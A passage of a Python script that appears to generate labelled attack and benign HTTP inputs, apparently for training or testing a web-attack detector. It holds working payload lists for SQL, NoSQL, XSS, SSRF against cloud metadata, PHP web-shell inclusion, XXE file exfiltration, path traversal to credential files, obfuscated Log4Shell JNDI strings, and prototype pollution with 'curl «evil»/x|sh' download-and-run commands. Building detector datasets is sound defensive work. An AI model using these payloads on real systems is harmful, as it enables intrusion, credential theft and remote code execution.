    out.append(P(["1", TK("%0b", "\x0b"), "union", TK("%0b", "\x0b"), "select", TK("%0b", "\x0b"), "1,2,3"], True))
    out.append(S(fw("' OR 1=1--"), True))
    out.append(S(b64u("1 UNION SELECT username,password FROM users"), True, pl=["path"]))
    out.append(S(b64("' or 1=1-- "), True, pl=["cookie", "header"]))
    return out


def pool_nosqli():
    out = []
    jv = [
        ({"$ne": None}, False),
        ({"$gt": ""}, False),
        ({"$regex": "^adm"}, False),
        ({"$regex": ".*"}, False),
        ({"$in": ["admin", "root", "administrator"]}, False),
        ({"$nin": [""]}, False),
        ({"$exists": True}, False),
        ({"$where": "sleep(5000) || true"}, False),
        ({"$where": "this.password.length > 0"}, False),
        ({"$expr": {"$eq": [1, 1]}}, True),
        ({"$not": {"$size": 0}}, True),
        ({"$ne": "x", "$exists": True}, True),
        ({"$function": {"body": "function(){ sleep(4000); return true; }", "args": [], "lang": "js"}}, True),
        ({"$gte": " "}, True),
        ({"$regex": "^.{0,}$", "$options": "s"}, True),
    ]
    for v, h in jv:
        out.append(S(v, h, jv=v, pl=["json"]))
    strs = [
        "';return true;var x='",
        "' || 1==1//",
        "admin' || 'a'=='a",
        "1; sleep(5000)",
        '"; return db.users.find(); var d="',
        '{"$ne":null}',
        '{"$gt":""}',
        "true, $where: '1 == 1'",
        "', $or: [ {}, { 'a':'a",
        "this.constructor.constructor('return process')().exit()",
        '{"$where":"sleep(3000)"}',
        "'; while(true){}; var x='",
        "0;return this.role == 'admin'",
        '{"username":{"$regex":"^a"}}',
        "admin' && this.role=='admin",
        "1' && this.password.match(/^a.*$/) && '1'=='1",
    ]
    hards = {6, 7, 8, 9, 12, 13, 14, 15}
    for i, s_ in enumerate(strs):
        out.append(S(s_, i in hards, pl=["query", "header", "cookie", "path", "form", "multipart"]))
    qk = [
        ("username[$ne]", "x", False),
        ("password[$gt]", "", False),
        ("email[$regex]", ".*", False),
        ("user[$exists]", "true", False),
        ("role[$in][]", "admin", True),
        ("$where", "1==1", False),
        ("login[$nin][]", "guest", True),
        ("password[$regex]", "^adm", True),
    ]
    for k, v, h in qk:
        out.append(S(k, h, pl=["query_key"], kv=v))
    jk = [
        ("$where", "this.isAdmin == true", None, False),
        ("$ne", None, "password", False),
        ("$gt", "", "username", False),
        ("$regex", "^ad", "username", True),
        ("$or", [{"role": "admin"}, {"_id": {"$exists": True}}], None, True),
    ]
    for k, v, parent, h in jk:
        d = S(k, h, pl=["json_key"], kv=v)
        if parent:
            d["jparent"] = parent
        out.append(d)
    return out


def pool_ssrf():
    E = [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://127.0.0.1:6379/",
        "dict://localhost:11211/stat",
        "file:///etc/passwd",
        "http://localhost/server-status",
        "http://[::1]:22/",
        "http://127.0.0.1:2375/containers/json",
        "http://127.0.0.1:8500/v1/agent/self",
        "http://10.0.0.5:9200/_cat/indices",
        "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.169.254/latest/user-data",
        "ldap://127.0.0.1:389/",
        "http://192.168.0.1/cgi-bin/luci",
        "http://localhost:8080/manager/html",
        "sftp://«evil»:11111/",
        "tftp://«evil»:69/x",
        "http://169.254.170.2/v2/credentials",
        "http://127.0.0.1:10250/pods",
        "file:///proc/self/environ",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2428%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20id%0A%0A%0D%0A",
        "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ca%40«evil»%3E%0D%0A",
    ]
    Hd = [
        "http://0x7f000001/",
        "http://2130706433/admin",
        "http://017700000001:8080/",
        "http://[::ffff:169.254.169.254]/latest/meta-data/",
        "http://127.1/",
        "http://0/",
        "http://localhost.localdomain/admin",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://«corp»@127.0.0.1/admin",
        "http://127.0.0.1#@«corp»/",
        "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "jar:http://«evil»/x.jar!/",
        "http://0251.0376.0251.0376/latest/meta-data/",
        "http://0xa9fea9fe/latest/meta-data/",
        "http://2852039166/latest/meta-data/",
        "http://«evil»/302?to=http://169.254.169.254/",
        "netdoc:///etc/passwd",
        "http://127.0.0.1:80\\@«corp»/",
        "http://[0:0:0:0:0:ffff:127.0.0.1]/",
        "HTTP://LOCALHOST:8000/admin",
        "http://loc%61lhost/admin",
        "http://[::]:80/",
    ]
    out = [S(x, False) for x in E] + [S(x, True) for x in Hd]
    out.append(S(b64u("http://169.254.169.254/latest/meta-data/"), True, pl=["path"]))
    out.append(S("169.254.169.254", True, pl=["header"], hn="X-Forwarded-Host"))
    return out


def pool_rfi():
    shell = b64("<?php system($_GET['c']); ?>")
    E = [
        "http://«evil»/shell.txt?",
        "https://«evil»/r57.txt",
        "ftp://anonymous@«ip»/pub/c99.txt",
        "data://text/plain;base64," + shell,
        "data:text/plain,<?php phpinfo();?>",
        "php://input",
        "http://«evil»/x.txt#",
        "https://«evil»/inc/config.php?cmd=id",
        "\\\\«ip»\\share\\shell.php",
        "http://«ip»:«port»/b.txt?",
        "https://raw.«evil»/p/s.txt",
        "ftp://«evil»/tools/wso.txt?",
        "http://«evil»/evil.php",
        "smb://«ip»/public/x.php",
        "https://«evil»/x.txt?x=.php",
    ]
    Hd = [
        "hTtP://«evil»/shell.txt?",
        "HtTpS://«evil»/x?",
        "data:;base64," + shell,
        "http://user:pass@«evil»/s.txt?",
        "php://filter/read=string.rot13/resource=http://«evil»/s.txt",
        "//«evil»/s.txt?",
        "http://0x" + "cb007101" + "/x.txt?",
        "expect://id",
        "http://«evil»/shell.txt?page=",
        "zip://uploads/«rand».zip#s.php",
    ]
    out = [S(x, False) for x in E] + [S(x, True) for x in Hd]
    out.append(P(["http://«evil»/shell.txt", TK("%00", "\x00")], True))
    out.append(S(b64u("http://" + pick(EVIL) + "/shell.txt?"), True, pl=["path"]))
    return out


def pool_xss():
    obj_b64 = b64("<script>alert(document.domain)</script>")
    E = [
        "<svg onload=alert(1)>",
        "<img src=x onerror=alert(document.cookie)>",
        '"><script>alert(String.fromCharCode(88,83,83))</script>',
        "</script><svg/onload=prompt(1)>",
        "'-alert(1)-'",
        '";alert(1)//',
        "<iframe src=javascript:alert(1)>",
        "javascript:alert(document.domain)",
        "<body onload=alert(1)>",
        '<a href="javascript:alert(1)">click</a>',
        "<img src=1 onerror=import('//«evil»/x.js')>",
        "<script src=//«evil»/x.js></script>",
        '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        '<object data="data:text/html;base64,' + obj_b64 + '">',
        "<form><button formaction=javascript:alert(1)>go</button></form>",
        "<base href=//«evil»/>",
        "{{constructor.constructor('alert(1)')()}}",
        '<video><source onerror="alert(1)"></video>',
    ]
    Hd = [
        "<svg><animate onbegin=(alert)(1) attributeName=x dur=1s>",
        "<details open ontoggle=top['al'+'ert'](1)>",
        "<body onpageshow=self[`al`+`ert`]`1`>",
        "jav\tascript:alert(1)",
        "&#106;avascript&colon;alert(1)",
        '<a href="java&#x09;script:prompt(1)">x</a>',
        '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<input autofocus onfocus=confirm`1`>",
        "<video><source onerror=\"eval(atob('YWxlcnQoMSk='))\">",
        "<x oncut=alert(1) contenteditable>cut me",
        "<a id=x tabindex=1 onfocusin=alert(1)></a>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
        '<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart="alert(1)"></b>',
        "<img src=1 onerror=window['\\x61lert'](1)>",
        "<svg onload=location='javas'+'cript:ale'+'rt(1)'>",
        "'\"--></style></script><svg/onload=(confirm)(1)>//",
        "<img src=x onerror=\\u0061lert(1)>",
        "<svg><script>alert&#40;1&#41;</script></svg>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "${alert(1)}",
        "`-alert(1)-`",
        "<img src=x onerror=[1].find(alert)>",
        "<svg onload=setTimeout`alert\\x281\\x29`>",
        "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
        "<img src=x onerror=globalThis[atob('YWxlcnQ=')](1)>",
        '<svg onload="&#97;&#108;&#101;&#114;&#116;(1)">',
        "data:text/html,<script>alert(1)</script>",
        '<a href="&#x6A;avascript:alert(1)">m</a>',
    ]
    out = [S(x, False) for x in E] + [S(x, True) for x in Hd]
    out.append(S(fw("<script>alert(1)</script>"), True))
    out.append(P([TK("%3Csvg%20onload%3Dalert(1)%3E".replace("%", "%25"), "%3Csvg%20onload%3Dalert(1)%3E")], True))
    out.append(S(b64u("<img src=x onerror=alert(1)>"), True, pl=["path"]))
    return out


def pool_traversal():
    D = lambda s: TK(s, s)
    out = []
    E = [
        "../../../../etc/passwd",
        "../../../../../../etc/shadow",
        "..\\..\\..\\..\\windows\\win.ini",
        "../../../../proc/self/environ",
        "../../../../var/log/nginx/access.log",
        "../../.env",
        "../../../../root/.ssh/id_rsa",
        "/etc/passwd",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "../../../../../../proc/self/cwd/config/database.yml",
        "../WEB-INF/web.xml",
        "../../../../../boot.ini",
        "/var/www/app/../../../etc/passwd",
        "../../../../usr/local/etc/php/php.ini",
        "../../../../home/ubuntu/.aws/credentials",
        "..\\..\\..\\inetpub\\wwwroot\\web.config",
    ]
    Hd = [
        "....//....//....//etc/passwd",
        "..;/..;/WEB-INF/web.xml",
        "....\\\\....\\\\windows\\\\win.ini",
        "/.././.././../etc/hosts",
        "..///..///..///etc/passwd",
        fw("../../etc/passwd"),
        "..\u2215..\u2215etc\u2215passwd",
        "file:///etc/passwd",
    ]
    out += [S(x, False) for x in E] + [S(x, True) for x in Hd]
    for r_ in [
        ".%2e/.%2e/.%2e/etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252f..%252fetc%252fpasswd",
        "..%5c..%5c..%5cwindows%5cwin.ini",
        "%252e%252e%252fetc%252fpasswd",
        "..%c0%af..%c0%af..%c0%afetc/passwd",
    ]:
        out.append(RAW(r_, True, pl=["query", "form", "cookie", "json", "header"]))
    out.append(P(["../../../../etc/passwd", TK("%00", "\x00"), ".png"], True))
    out.append(
        P(
            [
                TK("%c0%ae%c0%ae%c0%af", "%c0%ae%c0%ae%c0%af", True) * 1,
                TK("%c0%ae%c0%ae%c0%af", "%c0%ae%c0%ae%c0%af", True),
                "etc/passwd",
            ],
            True,
        )
    )
    out.append(P([TK("..%u2216..%u2216", "..%u2216..%u2216", True), "windows%u2216win.ini"], True, ev=True))
    # path-placement spellings with literal separators
    for s_, h in [
        ("../../../../etc/passwd", False),
        ("..%2f..%2f..%2fetc/passwd", True),
        ("%2e%2e/%2e%2e/%2e%2e/etc/passwd", True),
        ("..%252f..%252f..%252fetc/passwd", True),
        ("..;/..;/..;/etc/passwd", True),
        ("..\\..\\..\\windows\\win.ini", False),
        ("....//....//etc/passwd", True),
        ("..%c0%af..%c0%afetc/passwd", True),
        ("../../../WEB-INF/web.xml", False),
    ]:
        ev = "%c0" in s_
        dec = s_
        if not ev and "%25" not in s_:
            dec = unquote_to_bytes(s_).decode()
        elif "%25" in s_:
            dec = s_.replace("%25", "%")
        out.append(P([TK(s_, dec, ev)], h, pl=["path"]))
    out.append(S(b64u("../../../../etc/passwd"), True, pl=["path"]))
    for fn, h in [
        ("../../../../var/www/html/x.php", False),
        ("..\\..\\..\\inetpub\\wwwroot\\x.aspx", False),
        ("../../../root/.ssh/authorized_keys", True),
    ]:
        out.append(
            S(
                fn,
                h,
                pl=["multipart"],
                mpname=True,
                mpcontent="<?php system($_GET[0]); ?>"
                if fn.endswith(".php")
                else "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + ralnum(43) + " op@box",
                field="file",
            )
        )
    return out


def xxe_docs():
    E = []
    lol = '<!ENTITY l0 "lollollollol">' + "".join(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 7))
    E += [
        (
            '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE order [<!ENTITY xx SYSTEM "file:///etc/passwd">]><order><id>&xx;</id></order>',
            False,
        ),
        ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://«evil»/x.dtd"> %ext;]><r/>', False),
        (
            '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "http://«evil»/e.dtd">%d;%all;]><data>&send;</data>',
            False,
        ),
        (
            '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY s SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]><user><name>&s;</name></user>',
            False,
        ),
        ('<?xml version="1.0"?><!DOCTYPE c [<!ENTITY e SYSTEM "expect://id">]><cmd>&e;</cmd>', False),
        ('<?xml version="1.0"?><!DOCTYPE z [' + lol + "]><z>&l6;</z>", False),
        (
            '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY win SYSTEM "file:///c:/windows/win.ini">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&win;</id></getUser></soap:Body></soap:Envelope>',
            False,
        ),
        ('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY n SYSTEM "netdoc:///etc/passwd">]><a>&n;</a>', False),
        (
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><a><b>&m;</b></a>',
            False,
        ),
        ('<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://«evil»/ext.dtd"><foo>&bar;</foo>', False),
        (
            '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY env SYSTEM "file:///proc/self/environ">]><profile><bio>&env;</bio></profile>',
            False,
        ),
        (
            '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY k SYSTEM "file:///root/.ssh/id_rsa">]><rss version="2.0"><channel><title>&k;</title></channel></rss>',
            False,
        ),
        ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % d SYSTEM "ftp://«evil»:2121/x.dtd">%d;]><x>1</x>', False),
        ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY u SYSTEM "\\\\«ip»\\share\\a.txt">]><x>&u;</x>', False),
    ]
    Hd = [
        (
            '<order xmlns:xi="http://www.w3.org/2001/XInclude"><note><xi:include parse="text" href="file:///etc/passwd"/></note></order>',
            True,
        ),
        ('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY j SYSTEM "jar:http://«evil»/p.zip!/x.txt">]><a>&j;</a>', True),
        ('<?xml version="1.0"?><!DOCTYPE r PUBLIC "-//ACME//DTD Order 1.0//EN" "http://«evil»/p.dtd"><r>1</r>', True),
        (
            '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamsa \'<!ENTITY &#x25; f SYSTEM "file:///etc/passwd"><!ENTITY &#x25; e "<!ENTITY &#x26;#x25; err SYSTEM &#x27;file:///nope/&#x25;f;&#x27;>">&#x25;e;&#x25;err;\'>%local;]><m/>',
            True,
        ),
        (
            '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
            True,
        ),
        ('<?xml version="1.0"?><!DOCTYPE r [ <!ENTITY   x   SYSTEM   "file:///etc/passwd" > ]><r>&x;</r>', True),
        (
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a "<!ENTITY x SYSTEM \'file:///etc/group\'>">%a;]><r>&x;</r>',
            True,
        ),
    ]
    return E, Hd


def pool_xxe():
    E, Hd = xxe_docs()
    out = []
    for d, h in E + Hd:
        out.append(S(d, h, doc=True, pl=["xml", "query", "json", "header", "path", "form"]))
    utf7_inner = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    out.append(
        S(
            '<?xml version="1.0" encoding="UTF-7"?>' + utf7_inner.encode("utf-7").decode("ascii"),
            True,
            doc=True,
            pl=["xml"],
        )
    )
    out.append(
        S(
            '<?xml version="1.0"?>\n<!DOCTYPE\n  r\n  [\n\t<!ENTITY\n\tx SYSTEM\n\t"file:///etc/passwd">\n]>\n<r>&x;</r>',
            True,
            doc=True,
            pl=["xml"],
        )
    )
    out.append(
        S(
            '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE samlp:Response [<!ENTITY % r SYSTEM "http://«evil»/saml.dtd">%r;]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_«rand»" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.«corp»/</saml:Issuer></samlp:Response>',
            False,
            doc=True,
            pl=["xml"],
        )
    )
    svg1 = '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY host SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text x="5" y="30">&host;</text></svg>'
    svg2 = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://«evil»/s.dtd">%p;]><svg xmlns="http://www.w3.org/2000/svg"><text>&exfil;</text></svg>'
    out.append(S(svg1, False, pl=["multipart"], mpfile=("avatar.svg", "image/svg+xml"), field="file"))
    out.append(S(svg2, True, pl=["multipart"], mpfile=("logo.svg", "image/svg+xml"), field="file"))
    out.append(S(E[0][0], False, pl=["multipart"], mpfile=("orders.xml", "application/xml"), field="file"))
    out.append(S(Hd[0][0], True, pl=["multipart"], mpfile=("feed.xml", "text/xml"), field="file"))
    out.append(S(b64u(E[0][0]), True, pl=["path"]))
    return out


def pool_log4j():
    L = lambda: pick(["ldap", "ldap", "rmi", "dns", "ldaps", "iiop"])
    cb = lambda: "«evil»:" + pick(["1389", "389", "1099", "53"]) + "/" + pick(["a", "Exploit", "o", "x" + rhex(4)])
    out = []
    E = [
        "${jndi:ldap://" + cb() + "}",
        "${jndi:rmi://" + cb() + "}",
        "${jndi:dns://" + cb() + "}",
        "${jndi:ldaps://" + cb() + "}",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.«evil»/k}",
        "${jndi:ldap://${sys:java.version}.«evil»/v}",
        "${jndi:ldap://${hostName}.«evil»:1389/h}",
        "${jndi:iiop://" + cb() + "}",
        "${jndi:corba://" + cb() + "}",
        "${jndi:nds://" + cb() + "}",
        "${jndi:ldap://127.0.0.1#«evil»:1389/a}",
        "${jndi:ldap://«ip»:1389/Basic/Command/Base64/" + b64("curl http://" + pick(EVIL) + "/x|sh") + "}",
        "${jndi:rmi://«ip»:1099/jndi}",
        "${jndi:ldap://«evil»/${env:USER}}",
        "${jndi:dns://«evil»/${ctx:loginId}}",
    ]
    Hd = [
        "${${lower:j}ndi:${lower:l}dap://" + cb() + "}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://" + cb() + "}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//" + cb() + "}",
        "${${upper:j}ndi:" + L() + "://" + cb() + "}",
        "${j${k8s:k5:-ND}i:ldap://" + cb() + "}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://" + cb() + "}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://" + cb() + "}",
        "${${::-${::-$${::-j}}}}",
        "${jn${env::-}di:ldap://" + cb() + "}",
        "${${sys:nope:-j}ndi:${sys:nope:-r}mi://" + cb() + "}",
        "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://" + cb() + "}",
        "${${lower:${lower:jndi}}:${lower:rmi}://" + cb() + "}",
        "${jndi:ld${upper:a}p://" + cb() + "}",
        "${${::-J}ndi:ldap://" + cb() + "}",
        "$%7Bjndi:ldap://" + cb() + "%7D",
    ]
    out = [S(x, False) for x in E] + [S(x, True) for x in Hd]
    out.append(S("Bearer ${jndi:ldap://" + cb() + "}", False, pl=["header"], hn="Authorization"))
    out.append(S("${jndi:ldap://" + cb() + "}", False, pl=["header"], hn="X-Api-Version"))
    out.append(S(quote("${jndi:ldap://" + pick(EVIL) + ":1389/a}", safe=""), True, pl=["json", "header", "query"]))
    return out


def pool_pp():
    out = []
    jk = [
        ({"isAdmin": True}, False),
        ({"outputFunctionName": "x;process.mainModule.require('child_process').execSync('curl «evil»/x|sh');s"}, False),
        ({"shell": "node", "NODE_OPTIONS": "--inspect=«evil»:9229"}, False),
        ({"status": 555}, False),
        ({"json spaces": 7}, True),
        ({"block": {"type": "Text", "line": "process.mainModule.require('child_process').execSync('id')"}}, True),
        ({"polluted": "yes"}, False),
    ]
    for v, h in jk:
        v = json.loads(fill(json.dumps(v)))
        out.append(S("__proto__", h, pl=["json_key"], kv=v))
    out.append(S("constructor", False, pl=["json_key"], kv={"prototype": {"isAdmin": True}}))
    out.append(
        S(
            "__proto__",
            True,
            pl=["json_key"],
            kv={"role": "admin"},
            jrep=('"__proto__"', '"\\u005f\\u005fproto\\u005f\\u005f"'),
            flat=True,
        )
    )
    out.append(S("__proto__", True, pl=["json_key"], kv={"sourceURL": "\u2028\u2029\nfetch('//«evil»')"}))
    qk = [
        ("__proto__[isAdmin]", "true", False),
        ("__proto__.admin", "1", False),
        ("constructor[prototype][role]", "admin", False),
        ("a[__proto__][polluted]", "1", False),
        ("__pro__proto__to__[admin]", "1", True),
        ("__proto__[innerHTML]", "<img src=x onerror=alert(1)>", False),
        ("__proto__[transport_url]", "data:,alert(1)//", True),
        ("constructor.prototype.isAdmin", "true", True),
        ("__proto__[srcdoc][]", "<script>alert(1)</script>", True),
        ("x[constructor][prototype][debug]", "1", True),
    ]
    for k, v, h in qk:
        out.append(S(k, h, pl=["query_key"], kv=v))
    vals = [
        ("__proto__.isAdmin", False),
        ("constructor.prototype.shell", False),
        ('{"__proto__":{"admin":true}}', False),
        ('["__proto__","polluted"]', True),
        ("__proto__[exposedHeaders]", False),
        ("constructor.prototype.exposedHeaders", True),
        ('{"constructor":{"prototype":{"isAdmin":true}}}', False),
        ("__proto__.toString", True),
        ('{"__proto__":{"NODE_OPTIONS":"--require /proc/self/environ"}}', True),
        ("a.__proto__.b", False),
    ]
    for v, h in vals:
        out.append(S(v, h, pl=["query", "json", "form", "multipart", "header"]))
    out.append(S('j:{"__proto__":{"admin":true}}', False, pl=["cookie", "header"]))
    for v, h in [
        ("__proto__/isAdmin", False),
        ("constructor/prototype/admin", False),
        ("__proto__/polluted", False),
        ("__proto__%2Fshell", True),
        ("constructor/prototype/outputFunctionName", True),
    ]:
        out.append(P([TK(v, unquote_to_bytes(v).decode())], h, pl=["path"], method_force="PUT", pbody={"value": True}))
    return out


POOLS_A = [
    ("crlf", pool_crlf),
    ("ssti", pool_ssti),
    ("mail_injection", pool_mail),
    ("ldapi", pool_ldap),
    ("rce", pool_rce),
    ("code_injection", pool_code),
    ("php_injection", pool_php),
    ("sqli", pool_sqli),
    ("nosqli", pool_nosqli),
    ("ssrf", pool_ssrf),
    ("rfi", pool_rfi),
    ("xss", pool_xss),
    ("path_traversal", pool_traversal),
    ("xxe", pool_xxe),
    ("log4shell", pool_log4j),
    ("prototype_pollution", pool_pp),
]


def RAW(s, hard=False, **kw):
    """A payload written the way a collection sends it (raw, already URL-encoded)."""
    s = fill(s)
    try:
        dec, ev = unquote_to_bytes(s).decode("utf-8"), False
    except UnicodeDecodeError:
        dec, ev = s, True
    return P([TK(s, dec, ev)], hard, **kw)


# ---------------------------------------------------------------------------
# Benign side
# ---------------------------------------------------------------------------

DIST_B = {
    "benign_api_json": [("json", 40), ("query", 12), ("path", 8), ("form", 4), ("multipart", 2), ("header", 4)],
    "benign_headers": [("header", 62), ("cookie", 8)],
    "benign_paths": [("path", 62), ("query", 4), ("json", 4)],
    "benign_search": [("query", 40), ("json", 14), ("form", 8), ("path", 6), ("header", 2)],
    "benign_prose": [("json", 32), ("form", 18), ("multipart", 8), ("query", 8), ("path", 4)],
    "benign_richtext": [("json", 40), ("form", 16), ("multipart", 10), ("xml", 4)],
    "benign_markdown": [("json", 40), ("form", 12), ("multipart", 12), ("query", 6)],
    "benign_code": [("json", 36), ("multipart", 18), ("form", 10), ("query", 6)],
    "benign_templates": [("json", 40), ("form", 12), ("multipart", 8), ("xml", 4), ("query", 6)],
    "benign_email": [("json", 26), ("form", 16), ("query", 14), ("header", 6), ("path", 4), ("multipart", 4)],
    "benign_ldap_like": [("query", 26), ("json", 24), ("form", 8), ("path", 8), ("header", 4)],
    "benign_urls": [("query", 26), ("json", 22), ("form", 8), ("header", 8), ("path", 6)],
    "benign_base64": [("json", 20), ("path", 16), ("query", 14), ("form", 8), ("header", 6), ("cookie", 6)],
    "benign_commerce": [("json", 36), ("query", 18), ("form", 8), ("path", 6), ("cookie", 2)],
    "benign_logs": [("json", 50), ("multipart", 14), ("form", 6)],
}

CTX.update(
    {
        "benign_api_json": dict(
            q=[("/api/v1/orders", "fields")],
            j=[("POST", "/api/v1/orders", "notes")],
            pp=["{}"],
            f=[("/oauth/token", "scope")],
            mp=[("/api/v1/files", "metadata")],
            h=["X-Idempotency-Key"],
        ),
        "benign_headers": dict(
            q=[
                ("/api/v1/catalog", "page"),
                ("/", "x"),
                ("/api/v2/feed", "since"),
                ("/watch/live", "ch"),
                ("/api/v1/sync", "cursor"),
            ],
            ck=["pref"],
        ),
        "benign_paths": dict(
            pp=["{}"], q=[("/api/v1/files/meta", "path"), ("/open", "file")], j=[("POST", "/api/v1/files/move", "path")]
        ),
        "benign_search": dict(
            q=[
                ("/search", "q"),
                ("/api/v1/search", "query"),
                ("/help/search", "term"),
                ("/products", "keyword"),
                ("/docs/search", "q"),
            ],
            j=[
                ("POST", "/api/v1/search", "query"),
                ("POST", "/api/v1/search/suggest", "prefix"),
                ("POST", "/api/v1/saved-searches", "query"),
            ],
            f=[("/search", "q"), ("/support/search", "keywords")],
            pp=["/search/{}", "/s/{}", "/tag/{}"],
        ),
        "benign_prose": dict(
            j=[
                ("POST", "/api/v1/reviews", "text"),
                ("POST", "/api/v1/comments", "body"),
                ("PUT", "/api/v1/profile", "bio"),
                ("POST", "/api/v1/support/tickets", "description"),
                ("POST", "/api/v1/messages", "content"),
            ],
            f=[("/contact", "message"), ("/feedback", "comments"), ("/guestbook/sign", "entry")],
            mp=[("/api/v1/support/tickets", "description"), ("/careers/apply", "cover_letter")],
            q=[("/share", "text"), ("/api/v1/translate", "q"), ("/search", "q")],
            pp=["/quotes/{}", "/s/{}"],
        ),
        "benign_richtext": dict(
            j=[
                ("POST", "/api/v1/posts", "content_html"),
                ("PUT", "/api/v1/pages/about", "body"),
                ("POST", "/api/v1/newsletters", "html"),
                ("PATCH", "/api/v1/products/p_1042", "description_html"),
                ("POST", "/api/v1/kb/articles", "body"),
            ],
            f=[("/admin/posts/new", "content"), ("/wp-admin/post.php", "content")],
            mp=[("/api/v1/newsletters", "html_body"), ("/admin/pages/save", "body")],
            x=[("/api/v1/cms/import", "item", "content")],
        ),
        "benign_markdown": dict(
            j=[
                ("POST", "/api/v1/issues", "body"),
                ("PATCH", "/api/v1/repos/docs/readme", "content"),
                ("POST", "/api/v1/notes", "markdown"),
                ("POST", "/api/v1/comments", "body_md"),
            ],
            f=[("/wiki/edit", "text"), ("/forum/reply", "message")],
            mp=[("/api/v1/docs/upload", "content"), ("/api/v1/gists", "file_content")],
            q=[("/api/v1/markdown/preview", "text"), ("/render", "md")],
        ),
        "benign_code": dict(
            j=[
                ("POST", "/api/v1/pastes", "content"),
                ("POST", "/api/v1/snippets", "code"),
                ("POST", "/api/v1/questions", "code_block"),
                ("POST", "/api/v1/playground/format", "source"),
            ],
            mp=[("/api/v1/gists", "file")],
            f=[("/paste", "paste_code"), ("/tools/beautify", "input")],
            q=[("/docs/search", "q"), ("/api/v1/highlight", "code")],
        ),
        "benign_templates": dict(
            j=[
                ("PUT", "/api/v1/notification-templates/order_shipped", "body"),
                ("POST", "/api/v1/email-templates", "html"),
                ("PATCH", "/api/v1/sms-templates/otp", "text"),
                ("POST", "/api/v1/webhooks/templates", "payload_template"),
            ],
            f=[("/admin/templates/save", "template")],
            mp=[("/api/v1/templates/import", "template_body")],
            x=[("/api/v1/cms/templates", "template", "body")],
            q=[("/api/v1/templates/preview", "tpl")],
        ),
        "benign_email": dict(
            j=[
                ("POST", "/api/v1/invitations", "email"),
                ("POST", "/api/v1/mail/send", "to"),
                ("PATCH", "/api/v1/users/me", "email"),
                ("POST", "/api/v1/contacts", "from"),
            ],
            f=[("/signup", "email"), ("/newsletter/subscribe", "email"), ("/contact", "reply_to")],
            q=[("/api/v1/users/lookup", "email"), ("/unsubscribe", "address"), ("/invite", "to")],
            h=["X-User-Email", "From", "X-Forwarded-Email"],
            pp=["/api/v1/users/{}", "/unsubscribe/{}"],
            mp=[("/api/v1/mail/send", "to")],
        ),
        "benign_ldap_like": dict(
            q=[
                ("/directory/search", "q"),
                ("/api/v1/people", "cn"),
